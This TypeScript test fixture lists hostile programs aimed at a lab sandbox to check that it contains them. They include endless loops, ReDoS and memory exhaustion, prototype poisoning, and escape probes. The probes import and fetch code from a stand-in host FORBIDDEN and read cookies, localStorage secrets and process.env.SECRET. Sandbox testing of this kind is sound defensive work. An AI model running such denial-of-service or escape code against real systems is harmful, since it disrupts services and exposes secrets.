/** One program that means harm, put into `inventory` of the lab retry-storm. */
export interface HostileProgram {
  name: string
  /** The text of inventory.ts. FORBIDDEN stands for the address of a server that must never be reached. */
  code: string
  /** The service is ended, and what the learner is told matches. Without it, the program must find every door shut and say so. */
  told?: RegExp
  /** How long it may run if it is not through before. */
  ms?: number
}

const SERVE = `
import { serve } from '@hono/node-server'
import { Hono } from 'hono'
`

/** Runs in the handler of the first request, once the service is up. */
const onRequest = (body: string, more = '') => `${SERVE}${more}
const app = new Hono()
app.get('/stock/:id', async (c) => {
  ${body}
  return c.json({ left: 3 })
})
serve({ fetch: app.fetch, port: Number(process.env.PORT) })
`

/** Tries each door and says which one was open. What it gets must not be there. */
const tries = (doors: Record<string, string>, more = '') => `${SERVE}
const g: any = globalThis
const open: string[] = []
async function attempt(name: string, door: () => unknown) {
  try {
    const got = await door()
    if (got !== undefined && got !== null && got !== false) open.push(name + ' gave ' + typeof got)
  } catch {}
}
${more}
${Object.entries(doors)
  .map(([name, door]) => `await attempt(${JSON.stringify(name)}, () => ${door})`)
  .join('\n')}
for (const door of open) console.log('OPEN ' + door)
console.log('THROUGH')
const app = new Hono()
app.get('/stock/:id', (c) => c.json({ left: 3 }))
serve({ fetch: app.fetch, port: Number(process.env.PORT) })
`

const HUNG = /inventory.*(hung|did not come back)/i

/** Programs that hold on to time. */
const time: HostileProgram[] = [
  { name: 'an endless loop while loading', code: 'while (true) {}', told: HUNG },
  { name: 'an endless loop in a handler', code: onRequest('while (true) {}'), told: HUNG },
  { name: 'an endless loop of awaits', code: onRequest('for (;;) await null'), told: HUNG },
  {
    name: 'queueMicrotask that queues itself',
    code: onRequest('const again = () => queueMicrotask(again); again()'),
    told: HUNG,
  },
  {
    name: 'nextTick that queues itself',
    code: onRequest('const again = () => process.nextTick(again); again()'),
    told: HUNG,
  },
  {
    name: 'nextTick and promises in turn',
    code: onRequest('const again = () => { process.nextTick(() => Promise.resolve().then(again)) }; again()'),
    told: HUNG,
  },
  { name: 'a top-level await that loops', code: 'for (;;) await Promise.resolve()', told: HUNG },
  {
    name: 'an async generator that never ends',
    code: onRequest('async function* g() { for (;;) yield 1 }\n for await (const x of g()) void x'),
    told: HUNG,
  },
  {
    name: 'a stream as body that never ends',
    code: onRequest(
      `return new Response(new ReadableStream({ pull(c) { c.enqueue(new TextEncoder().encode('x'.repeat(1000))) } }))`,
    ),
    ms: 2_000,
  },
  { name: 'a regular expression that backtracks', code: onRequest("/^(a+)+$/.test('a'.repeat(40) + 'b')"), told: HUNG },
  { name: 'JSON.parse of a bomb', code: onRequest("JSON.parse('['.repeat(50_000_000))"), told: /inventory|memory/ },
  {
    name: 'setImmediate that sets itself',
    code: onRequest('const again = () => { setImmediate(again) }; again()'),
    told: /inventory.*time/i,
    ms: 12_000,
  },
  {
    name: 'calls to nobody, again and again at one instant',
    code: onRequest("for (;;) await fetch('http://nobody/').catch(() => {})"),
    told: /inventory.*time/i,
    ms: 12_000,
  },
  {
    name: 'setInterval 0, ten thousand times',
    code: onRequest('for (let i = 0; i < 10_000; i++) setInterval(() => {}, 0)'),
    ms: 1_500,
  },
  {
    name: 'a hundred thousand timers',
    code: onRequest('for (let i = 0; i < 100_000; i++) setTimeout(() => {}, 60_000)'),
    told: /inventory.*(timers|in one step)/i,
  },
  {
    name: 'timers, a few more with each request',
    code: onRequest('for (let i = 0; i < 9_000; i++) setTimeout(() => {}, 170_000)'),
    told: /inventory.*timers/i,
  },
  {
    name: 'timers with impossible delays',
    code: onRequest(
      'for (const ms of [-1, NaN, Infinity, -Infinity, 2 ** 53, 1e308, null, {}, "x"]) { setTimeout(() => {}, ms as number); setInterval(() => {}, ms as number); AbortSignal.timeout(Math.abs(Number(ms)) || 0) }; if (!said) { said = true; console.log("THROUGH") }',
      'let said = false',
    ),
  },
  {
    name: 'effort of impossible length',
    code: onRequest(
      'for (const ms of [-1, NaN, Infinity, -Infinity, 1e308]) { void work(ms); block(ms) }',
      "import { block, work } from 'faultline/lab'",
    ),
    ms: 1_500,
  },
  { name: 'process.exit in a loop', code: onRequest('for (;;) { try { process.exit(3) } catch {} }'), told: HUNG },
  { name: 'process.exit while loading', code: 'process.exit(7)', told: /inventory/ },
  {
    name: 'exit again from the exit listener',
    code: onRequest("process.on('exit', () => { for (;;); })\n process.exit(0)"),
    told: HUNG,
  },
]

/** Programs that take more than their share. */
const room: HostileProgram[] = [
  {
    name: 'an array that grows for ever',
    code: onRequest("const all: unknown[] = []\n for (;;) all.push(new Array(1_000).fill('x'))"),
    told: /inventory|memory/,
    ms: 25_000,
  },
  {
    name: 'typed arrays without end',
    code: onRequest(
      'const all: unknown[] = []\n for (let i = 0; i < 4_000; i++) all.push(new Uint8Array(1 << 20).fill(1))',
    ),
    told: /inventory|memory/,
    ms: 25_000,
  },
  {
    name: 'a string that doubles',
    code: onRequest("let text = 'x'\n for (;;) text += text"),
    told: /inventory.*Invalid string length/i,
  },
  {
    name: 'a string that doubles, flattened and kept',
    code: onRequest(
      "const all: string[] = []\n for (let i = 0; ; i++) { const text = 'x'.repeat(1 << 24) + i; text.charCodeAt(5); all.push(text) }",
    ),
    told: /inventory|memory/,
    ms: 25_000,
  },
  {
    name: 'deep recursion',
    code: onRequest('const down = (): number => 1 + down()\n down()'),
    told: /inventory.*call stack/i,
  },
  {
    name: 'a console flood',
    code: onRequest("for (let i = 0; i < 200_000; i++) console.log('x'.repeat(1_000))"),
    ms: 1_500,
  },
  { name: 'one endless line of log', code: onRequest("console.log('x'.repeat(1 << 26))"), ms: 1_500 },
  {
    name: 'a log of a million nested objects',
    code: onRequest(
      'let o: any = {}\n for (let i = 0; i < 200_000; i++) o = { o, p: o }\n console.log(JSON.stringify({ a: Array.from({ length: 500_000 }, () => ({ b: 1 })) }))\n console.dir(o, { depth: null })',
    ),
    ms: 2_500,
  },
  { name: 'an answer of 500 MB', code: onRequest("return c.text('x'.repeat(500_000_000))"), told: /inventory.*body/i },
  {
    name: 'a request of 500 MB',
    code: onRequest("await fetch('http://web/', { method: 'POST', body: 'x'.repeat(500_000_000) }).catch(() => {})"),
    told: /inventory.*body|memory/i,
  },
  {
    name: 'many bodies of a megabyte',
    code: onRequest(
      "for (let i = 0; i < 400; i++) void fetch('http://web/', { method: 'POST', body: 'x'.repeat(1_000_000) + i }).catch(() => {})",
    ),
    // its credit ends it, unless the small heap that the test gives the browser ends first
    told: /inventory.*(bod(y|ies)|did not come back)|memory/i,
  },
  {
    name: 'a hundred thousand open requests',
    code: onRequest("for (let i = 0; i < 100_000; i++) void fetch('http://web/books/1').catch(() => {})"),
    told: /inventory.*(requests|in one step|did not come back)/i,
  },
  {
    name: 'requests kept open, a few more each time',
    code: `import { createServer } from 'node:http'
createServer((q, s) => {
  if (q.url === '/never') return
  for (let i = 0; i < 3_000; i++) void fetch('http://inventory:' + process.env.PORT + '/never').catch(() => {})
  s.end('{}')
}).listen(Number(process.env.PORT))`,
    told: /inventory.*(requests|did not come back)/i,
    ms: 10_000,
  },
  {
    name: 'huge header lists',
    code: onRequest("for (let i = 0; i < 20_000; i++) c.header('x-' + i, 'y'.repeat(100))"),
    told: /inventory.*header/i,
  },
  {
    name: 'a path of a hundred megabytes',
    code: onRequest("await fetch('http://web/' + 'a'.repeat(100_000_000)).catch(() => {})"),
    told: /inventory.*(header|path)|memory/i,
  },
  {
    name: 'a listener on every port',
    code: `import { createServer } from 'node:http'\nfor (let port = 0; port < 65_536; port++) createServer().listen(port)`,
    told: /inventory.*(ports|in one step)/i,
  },
  {
    name: 'pools with giant names',
    code: `${SERVE}import { pool } from 'faultline/lab'\nfor (let i = 0; i < 50; i++) pool(1, { name: 'x'.repeat(10_000_000) + i })`,
    told: /inventory.*name|memory/i,
  },
  {
    name: 'a service of a hundred thousand lines',
    code: `${onRequest('')}\n${'export const x = 1\n'.repeat(1).replace('x', 'y')}${Array.from({ length: 30_000 }, (_, i) => `const v${i} = ${i}`).join('\n')}`,
    ms: 6_000,
  },
]

/** Programs that lie to the host. */
const lies: HostileProgram[] = [
  {
    name: 'Object.prototype poisoned',
    code: onRequest(
      '',
      `for (const name of ['type', 'then', 'end', 'body', 'get', 'value', 'headers', 'call', 'effects']) { try { Object.defineProperty(Object.prototype, name, { get() { throw new Error('poison') }, set() {}, configurable: true }) } catch {} }`,
    ),
    told: /inventory/,
  },
  {
    name: 'Promise.prototype.then replaced',
    code: onRequest(
      '',
      `try { (Promise.prototype as any).then = function () { for (const f of arguments) try { f([{ type: 'ledger', account: 'a', key: 'b', amount: 1 }]) } catch {} } } catch {}\n console.log('THROUGH')`,
    ),
  },
  {
    name: 'Array.prototype.push replaced',
    code: onRequest(
      '',
      `try { (Array.prototype as any).push = function (effect: any) { if (effect && effect.type) effect.type = 'nonsense'; this[this.length] = effect; return this.length } } catch {}`,
    ),
    told: /inventory.*no service sends/,
  },
  {
    name: 'Function.prototype.call replaced',
    code: onRequest(
      '',
      `try { (Function.prototype as any).call = () => { throw new Error('poison') }; (Function.prototype as any).apply = () => 1; (Function.prototype as any).bind = () => 1 } catch {}\n console.log('THROUGH')`,
    ),
  },
  {
    name: 'every built-in replaced',
    code: onRequest(
      '',
      `const { log } = console\n for (const name of Object.getOwnPropertyNames(globalThis)) { const made = (globalThis as any)[name]; for (const holder of [made, made?.prototype]) if (Object(holder) === holder) for (const key of Reflect.ownKeys(holder)) { try { holder[key] = () => { throw new Error('poison') } } catch {} } }\n log('THROUGH')`,
    ),
    told: /inventory/,
  },
  {
    name: 'globals deleted and redefined',
    code: onRequest(
      '',
      `for (const name of ['fetch', 'setTimeout', 'process', 'Date', 'console', 'postMessage', 'onmessage', 'self']) { try { delete (globalThis as any)[name] } catch {}; try { Object.defineProperty(globalThis, name, { value: () => { throw new Error('poison') } }) } catch {} }`,
    ),
    ms: 1_500,
  },
  {
    name: "the host's own symbols",
    code: tries(
      {
        'a module that is not in the subset': `g[Symbol.for('faultline.module')]('node:fs')`,
        "another's beginning": `(g[Symbol.for('faultline.began')]?.(), null)`,
        'the effort kit with nonsense': `(g[Symbol.for('faultline.effort')].after(NaN, () => {}, 1e9), g[Symbol.for('faultline.effort')].block(-1), null)`,
        'a call that is not its own': `(g[Symbol.for('faultline.effort')].after(1, () => {}, { toString() { return 'x' } }), null)`,
      },
      '',
    ),
    told: /inventory.*(cannot be sent|out of turn)/,
  },
  {
    name: 'an error with hostile getters',
    code: onRequest(
      `const e: any = new Error('x'); for (const k of ['name', 'message', 'stack', 'cause', 'toString']) Object.defineProperty(e, k, { get() { throw new Error('again') } })\n throw e`,
      '',
    ),
    ms: 1_500,
  },
  {
    name: 'a thrown proxy that throws',
    code: `const bad: any = new Proxy(function () {}, { get() { throw bad }, getPrototypeOf() { throw bad }, ownKeys() { throw bad }, has() { throw bad }, apply() { throw bad } })\nsetTimeout(() => { throw bad }, 5)\nawait new Promise(() => {})`,
    told: /inventory/,
  },
  {
    name: 'an uncaught error whose getters throw',
    code: `const e: any = new Error('x'); for (const k of ['name', 'message', 'stack', 'cause', 'toString']) Object.defineProperty(e, k, { get() { throw e } })\nsetTimeout(() => { throw e }, 5)`,
    told: /inventory/,
  },
  { name: 'an error that is a giant', code: `throw new Error('x'.repeat(100_000_000))`, told: /inventory|memory/ },
  {
    name: 'an error whose name is no text',
    code: `throw Object.assign(new Error('x'), { name: () => {}, message: { toString() { for (;;); } }, stack: Symbol('x') })`,
    told: /inventory/,
  },
  {
    name: 'a rejection with a revoked proxy',
    code: `const { proxy, revoke } = Proxy.revocable({}, {}); revoke()\nsetTimeout(() => { void Promise.reject(proxy) }, 5)\nsetTimeout(() => {}, 100)`,
    told: /inventory/,
  },
  {
    name: 'a proxy that throws as body and headers',
    code: onRequest(
      `const bad: any = new Proxy({}, { get() { throw new Error('bad') }, ownKeys() { throw new Error('bad') } })\n try { return new Response(bad, { headers: bad }) } catch {}\n return c.json(bad)`,
    ),
    ms: 1_500,
  },
  {
    name: 'things that cannot be cloned, sent',
    code: `import { createServer } from 'node:http'\ncreateServer((q, s) => { const odd: any = Object.assign(() => {}, { toString: () => 'x' }); try { s.statusCode = odd } catch {}; try { s.setHeader('x', [Symbol('x') as any]) } catch {}; try { s.setHeader('y', odd) } catch {}; s.end('{}') }).listen(Number(process.env.PORT))`,
    told: /inventory/,
    ms: 1_500,
  },
  {
    name: 'a body over memory that changes',
    code: `import { createServer } from 'node:http'\nconst memory = new ArrayBuffer(8, { maxByteLength: 1 << 20 })\ncreateServer((q, s) => { const view = new Uint8Array(memory); s.write(view); memory.resize(0); s.end(view) }).listen(Number(process.env.PORT))`,
    ms: 1_500,
  },
]

const NATIVES = `
  Atomics BroadcastChannel Cache CacheStorage CompressionStream CookieStore cookieStore DecompressionStream EventSource
  FileReader FileReaderSync FinalizationRegistry IDBFactory ImageDecoder LockManager MessageChannel MessagePort
  Notification NotificationTriggers OffscreenCanvas PerformanceObserver RTCDataChannel ServiceWorkerRegistration
  SharedArrayBuffer SharedWorker Storage StorageManager SubtleCrypto Temporal VideoDecoder WeakRef WebAssembly WebSocket
  WebSocketStream WebTransport WorkerNavigator Worker XMLHttpRequest addEventListener caches close createImageBitmap
  document fonts importScripts indexedDB localStorage location name navigator onmessage onerror opener origin parent
  postMessage registration removeEventListener reportError requestAnimationFrame scheduler self sessionStorage top
  trustedTypes webkitRequestFileSystem window webkitIndexedDB queryLocalFonts frames performance.measure
`
  .trim()
  .split(/\s+/)
  .filter((name) => !name.includes('.'))

/** Programs that look for a way out. */
const escapes: HostileProgram[] = [
  {
    name: 'natives by their names',
    code: tries(Object.fromEntries(NATIVES.map((name) => [name, `g[${JSON.stringify(name)}]`]))),
  },
  {
    name: 'natives by the prototypes of the global object',
    code: tries(
      { none: 'null' },
      `for (let holder = Object.getPrototypeOf(g); holder && holder !== Object.prototype; holder = Object.getPrototypeOf(holder)) {
  for (const key of Reflect.ownKeys(holder)) {
    if (key === Symbol.toStringTag) continue
    const found: any = Object.getOwnPropertyDescriptor(holder, key)
    if (found.get || Object(found.value) === found.value) open.push('prototype: ' + String(key))
  }
}
for (const key of Reflect.ownKeys(g)) {
  const found: any = Object.getOwnPropertyDescriptor(g, key)
  const made = found.value ?? found.get?.call(g)
  if (typeof made === 'function' && /\\[native code\\]/.test(Function.prototype.toString.call(made)) && !/^(Array|ArrayBuffer|BigInt|BigInt64Array|BigUint64Array|Boolean|DataView|Date|Error|AggregateError|SuppressedError|DisposableStack|AsyncDisposableStack|EvalError|RangeError|ReferenceError|SyntaxError|TypeError|URIError|Float16Array|Float32Array|Float64Array|Int8Array|Int16Array|Int32Array|Iterator|Map|Number|Object|Promise|Proxy|RegExp|Set|String|Symbol|Uint8Array|Uint8ClampedArray|Uint16Array|Uint32Array|WeakMap|WeakSet|Function|eval|decodeURI|decodeURIComponent|encodeURI|encodeURIComponent|escape|unescape|isFinite|isNaN|parseFloat|parseInt|URL|URLSearchParams|TextEncoder|TextDecoder|DOMException|structuredClone|atob|btoa)$/.test(String(key))) open.push('own: ' + String(key))
}`,
    ),
  },
  {
    name: 'natives by getters kept for later',
    code: tries(
      { none: 'null' },
      `const wanted = ['fetch', 'postMessage', 'Worker', 'WebSocket', 'Blob', 'indexedDB', 'setTimeout', 'MessageChannel', 'navigator', 'addEventListener']
const getters = wanted.map((name) => Object.getOwnPropertyDescriptor(g, name)?.get)
const look = (when: string) => getters.forEach((get, i) => {
  try { const made = get?.call(g); if (made && /native code/.test(String(made))) open.push(when + ': ' + wanted[i]) } catch {}
})
process.on('beforeExit', () => { void Promise.resolve().then(() => look('after the step')).then(() => null).then(() => look('later')).then(() => { for (const door of open) console.log('OPEN ' + door) }) })
class Late { get then() { look('thenable'); return undefined } }
await new Late()
await Promise.resolve()`,
    ),
  },
  {
    name: 'natives through deleted accessors',
    code: tries({
      addEventListener: `(delete g.addEventListener, g.addEventListener)`,
      postMessage: `(delete g.postMessage, g.postMessage)`,
      'fetch native': `(delete g.fetch, /native/.test(String(g.fetch)) ? g.fetch : null)`,
      onmessage: `(delete g.onmessage, Object.getOwnPropertyDescriptor(g, 'onmessage')?.get ?? null)`,
      dispatchEvent: `(delete g.dispatchEvent, g.dispatchEvent)`,
    }),
  },
  {
    name: 'code from text',
    code: tries({
      eval: `(0, g.eval)('1')`,
      Function: `Function('return 1')()`,
      'constructor.constructor': `(() => {}).constructor('return this')()`,
      AsyncFunction: `(async () => {}).constructor('return 1')()`,
      GeneratorFunction: `(function* () {}).constructor('yield 1')().next().value`,
      AsyncGeneratorFunction: `(async function* () {}).constructor('yield 1')().next()`,
      'setTimeout with text': `(setTimeout as any)('globalThis.x = 1', 0)`,
      'sort of a class': `Reflect.construct(Function, ['return 1'])()`,
      'the constructor of the host': `fetch.constructor('return 1')()`,
      'the constructor of an error': `(() => { try { null.x } catch (e: any) { return e.constructor.constructor('return 1')() } })()`,
    }),
  },
  {
    name: 'imports hidden from the compiler',
    code: `const a = 1, g = 2\nconst x = a\n/import('http://FORBIDDEN/x.js')/g\nconsole.log('THROUGH')\nsetTimeout(() => {}, 100)`,
    told: /inventory.*import/,
  },
  { name: 'import of a remote address', code: `import 'http://FORBIDDEN/x.js'`, told: /inventory.*cannot be imported/ },
  { name: 'import of a data: address', code: `import 'data:text/javascript,0'`, told: /inventory.*cannot be imported/ },
  { name: 'import of a blob: address', code: `import 'blob:null/0'`, told: /inventory.*cannot be imported/ },
  { name: 'a dynamic import', code: `await import('http://FORBIDDEN/x.js')`, told: /inventory.*import/ },
  {
    name: 'a dynamic import behind a regular expression',
    code: `const f = (a: any) => a\nlet i = 1, b = 2\ni++ /b/ f(await import('http://FORBIDDEN/regex.js').catch(() => 1))\nconsole.log('THROUGH')\nsetTimeout(() => {}, 100)`,
    told: /inventory/,
  },
  {
    name: 'a dynamic import inside a template inside a template',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the program
    code: 'const t = `${`${`//${await import(\'http://FORBIDDEN/t.js\').catch(() => 1)}`}`}`\nconsole.log("THROUGH" + t)',
    told: /inventory/,
  },
  {
    name: 'a source map and a source address that phone home',
    code:
      onRequest(`throw new Error('x')`, `console.log('THROUGH')\n`) +
      '\n//# sourceMappingURL=http://FORBIDDEN/map.json\n//# sourceURL=http://FORBIDDEN/x.js',
  },
  {
    name: 'the network by every door',
    code: tries(
      {
        'fetch to loopback': `fetch('http://FORBIDDEN/fetch')`,
        'fetch to localhost': `fetch('http://localhost:' + 'FORBIDDEN'.split(':')[1] + '/')`,
        'node:http': `new Promise((done) => { const q = get('http://FORBIDDEN/get', done); q.on('error', () => done(null)) })`,
        XMLHttpRequest: `{ const x = new g.XMLHttpRequest(); x.open('GET', 'http://FORBIDDEN/xhr'); x.send() }`.replace(
          /^\{(.*)\}$/,
          '(() => {$1; return 1 })()',
        ),
        WebSocket: `new g.WebSocket('ws://FORBIDDEN/ws')`,
        EventSource: `new g.EventSource('http://FORBIDDEN/sse')`,
        WebTransport: `new g.WebTransport('https://FORBIDDEN/wt')`,
        importScripts: `(g.importScripts('http://FORBIDDEN/is.js'), 1)`,
        sendBeacon: `g.navigator.sendBeacon('http://FORBIDDEN/b')`,
        FontFace: `new g.FontFace('x', 'url(http://FORBIDDEN/f.woff)').load()`,
        Request: `new g.Request('http://FORBIDDEN/r').arrayBuffer?.call(null)`,
        Image: `new g.Image().src`,
      },
      "import { get } from 'node:http'",
    ),
  },
  {
    name: 'the page by every door',
    code: tries({
      parent: `g.parent`,
      top: `g.top`,
      opener: `g.opener`,
      document: `g.document`,
      'a forged greeting': `(g.parent.postMessage('faultline-frame', '*'), 1)`,
      'a forged message of the kernel': `(g.postMessage({ type: 'ready' }), 1)`,
      localStorage: `g.localStorage.getItem('secret')`,
      indexedDB: `g.indexedDB.databases()`,
      caches: `g.caches.keys()`,
      cookies: `g.cookieStore.get('secret')`,
      'files of the origin': `g.navigator.storage.getDirectory()`,
      BroadcastChannel: `new g.BroadcastChannel('x')`,
      locks: `g.navigator.locks.query()`,
      clients: `g.clients`,
    }),
  },
  {
    name: "the kernel's port by every door",
    code: tries({
      'forged effects': `(g.postMessage({ type: 'effects', number: 1, effects: [{ type: 'ledger', account: 'a', key: 'b', amount: 1 }] }), 1)`,
      'a break': `(g.postMessage({ type: 'broken', message: 'x' }), 1)`,
      onmessage: `(g.onmessage = () => { console.log('OPEN onmessage heard') }, null)`,
      addEventListener: `(g.addEventListener('message', () => { console.log('OPEN message heard') }), 1)`,
      'the prototype of EventTarget': `(() => { const f = Object.getPrototypeOf(Object.getPrototypeOf(Object.getPrototypeOf(g)))?.addEventListener; return f ? (f.call(g, 'message', () => console.log('OPEN heard')), 1) : null })()`,
      'a worker of its own': `new g.Worker(URL.createObjectURL(new g.Blob(['1'])))`,
      'an address for a blob': `(URL as any).createObjectURL(new Blob(['1']))`,
      'a thread of Node': `g.require('node:worker_threads')`,
      'process bindings': `(process as any).binding('fs') ?? (process as any).mainModule`,
      'structuredClone of a port': `structuredClone(g, { transfer: [g] } as any)`,
      'stack frames': `(() => { const kept = (Error as any).prepareStackTrace; try { (Error as any).prepareStackTrace = (_: unknown, frames: any[]) => frames; const frames: any = new Error('x').stack; return Array.isArray(frames) ? frames.map((f: any) => f.getThis?.() ?? f.getFunction?.()).find((x: any) => x && x !== g) : null } finally { (Error as any).prepareStackTrace = kept } })()`,
      'caller of a function': `(() => { function f(this: unknown) { return (f as any).caller } return f() })()`,
    }),
  },
  {
    name: 'other services, past the network',
    code: tries({
      'their modules': `g.web ?? g.services ?? g.world ?? g.kernel`,
      'their environment': `process.env.SECRET`,
      'their memory by a shared array': `new g.SharedArrayBuffer(8)`,
      'their memory by WebAssembly': `new g.WebAssembly.Memory({ initial: 1, maximum: 1, shared: true })`,
      'time by a weak reference': `new g.WeakRef({})`,
      'time by finalization': `new g.FinalizationRegistry(() => {})`,
      'the wall clock by Date': `Math.abs(new (Object.getPrototypeOf(Date.prototype).constructor)().getTime() - Date.now()) > 1e7 ? 1 : null`,
      'the wall clock by performance': `performance.timeOrigin > Date.UTC(2026, 5, 1) ? 1 : null`,
    }),
  },
]

export const programs: HostileProgram[] = [...time, ...room, ...lies, ...escapes]
